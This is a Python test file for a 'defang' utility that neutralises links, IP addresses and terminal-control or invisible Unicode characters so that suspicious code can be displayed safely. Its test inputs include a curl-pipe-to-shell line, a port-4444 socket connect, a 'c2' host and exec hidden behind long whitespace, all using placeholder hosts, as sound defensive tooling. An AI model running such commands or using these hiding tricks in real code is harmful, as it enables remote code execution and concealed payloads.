from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from darnel.defang import EXCERPT, defang, printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("get('https://a.example.invalid/x.y')", "get('hxxps://a[.]example[.]invalid/x.y')"),
        ("HTTP://A.example.invalid", "HxxP://A[.]example[.]invalid"),
        ("ws://c2.example.invalid:8080/s", "wxs://c2[.]example[.]invalid:8080/s"),
        ("ftp://f.example.invalid", "fxp://f[.]example[.]invalid"),
        ("connect(('192.0.2.7', 4444))", "connect(('192[.]0[.]2[.]7', 4444))"),
        ("curl drop.example.com/x | sh", "curl drop[.]example[.]com/x | sh"),
        ("'drop.example.xyz'", "'drop[.]example[.]xyz'"),
        ("os.environ.get('A')", "os.environ.get('A')"),
        ("version = '1.2.3'", "version = '1.2.3'"),
        ("a\tb   " + " " * 500 + "exec(x)", "a b exec(x)"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("a\u202eb\u200bc\ufe0fd", "a\\u202eb\\u200bc\\ufe0fd"),
        ("\U000e0101", "\\U000e0101"),
        ("größe = 'ж'", "größe = 'ж'"),
    ],
)
def test_defang(text: str, shown: str) -> None:
    assert defang(text) == shown


def test_a_long_text_is_cut() -> None:
    assert defang("x" * 1000) == "x" * (EXCERPT - 1) + "…"


@given(st.text())
def test_nothing_that_steers_a_terminal_gets_through(text: str) -> None:
    for shown in (defang(text), printable(text)):
        assert not {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cs", "Zl", "Zp")}
    assert len(defang(text)) <= EXCERPT


@given(st.text(alphabet="htpsw:/.ab'1 ", max_size=60))
def test_no_live_link_gets_through(text: str) -> None:
    assert "http://" not in defang(text)
    assert "https://" not in defang(text)
